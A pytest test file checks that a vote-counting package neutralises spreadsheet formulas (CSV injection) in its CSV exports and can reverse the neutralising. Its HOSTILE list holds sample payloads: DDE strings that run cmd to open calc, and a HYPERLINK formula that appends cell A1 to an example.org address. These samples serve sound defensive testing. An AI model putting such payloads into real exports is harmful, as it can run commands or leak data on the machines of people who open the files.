"""Spreadsheet formulas in the CSV the engine writes: neutralised (OWASP "CSV injection"), and reversibly so."""

import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from omov.count import Profile, count, sheet
from omov.count.cli import main as cli_main
from omov.count.formats.csv_ import parse_csv, write_csv
from omov.count.formats.csv_safety import FORMULA_START, neutralise, neutralise_row, restore

HOSTILE = [
    '=HYPERLINK("https://example.org/?"&A1,"Ann")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1dHYPERLINK(1)",
    "'=already quoted",
]


def _runs_as_formula(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula? (a plain number is data, not a formula)"""
    if not cell or cell[0] not in FORMULA_START:
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_leading_quote(text):
    assert neutralise(text) == "'" + text
    assert not _runs_as_formula(neutralise(text))


@pytest.mark.parametrize("number", ["-3.00", "+1.50", "42", "-7", "0.00001"])
def test_numbers_stay_numbers(number):
    assert neutralise(number) == number


@pytest.mark.parametrize("text", ["Ann", "O'Brien", "'t Hooft", "", "a=b", " =x"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text == restore(text)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r\n\uff1d0123456789.aZ ")), max_size=12))
def test_restore_undoes_neutralise_for_every_string(text):
    assert restore(neutralise(text)) == text
    assert not _runs_as_formula(neutralise(text)) or neutralise(text) == text


def test_neutralise_row_leaves_non_text_alone():
    assert neutralise_row(["=1+1", 3, None, "-2"]) == ["'=1+1", 3, None, "-2"]


def _hostile_count():
    names = ['=HYPERLINK("http://x","Ann")', "@Bob", "Cat"]
    p = Profile.from_papers(names, [((0, 1), 5), ((1, 2), 3), ((2,), 2)], seats=1, title="+Ward -1")
    return count(p, "scottish", seed="=seed")


def test_the_count_sheet_csv_runs_no_formula():
    result = _hostile_count()
    rows = list(csv.reader(io.StringIO(sheet.render_csv(result))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if _runs_as_formula(c)]
    assert "'" + result.candidates[0] in cells and "'+Ward -1" in cells
    # changes such as "-3.00" stay numbers a spreadsheet can add up
    assert "-2.00000" in cells  # Cat's papers leaving at her exclusion


def test_the_json_sheet_keeps_the_names_exactly_for_checking():
    result = _hostile_count()
    doc = json.loads(sheet.render_json(result))
    assert doc["candidates"][0] == '=HYPERLINK("http://x","Ann")'
    assert sheet.from_json(sheet.render_json(result)) == result


@pytest.mark.parametrize("layout", ["ranks", "ranking"])
def test_ballot_csv_neutralises_names_and_reads_them_back(layout):
    names = [*HOSTILE[:5], "Ann"]
    p = Profile.from_papers(names, [((0, 1, 5), 2), ((4, 3), 1), ((2,), 1)], seats=2)
    text = write_csv(p, layout=layout)
    body = [line for line in text.splitlines() if not line.startswith("#")]
    cells = [cell for row in csv.reader(body) for cell in row]
    assert not [c for c in cells if _runs_as_formula(c)]
    again = parse_csv(text)
    assert set(again.names) == set(p.names)
    assert again.papers == p.papers


def test_cli_csv_file_line_is_neutralised(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name in ("=1+1.blt", "b.blt"):
        (tmp_path / name).write_text("2 1\n3 1 0\n1 2 0\n0\nA\nB\n")
    out = io.StringIO()
    argv = ["=1+1.blt", "b.blt", "--rule", "scottish", "--format", "csv", "--seed", "1"]
    assert cli_main(argv, out=out, err=io.StringIO()) == 0
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert "'=1+1.blt" in cells and not [c for c in cells if _runs_as_formula(c)]
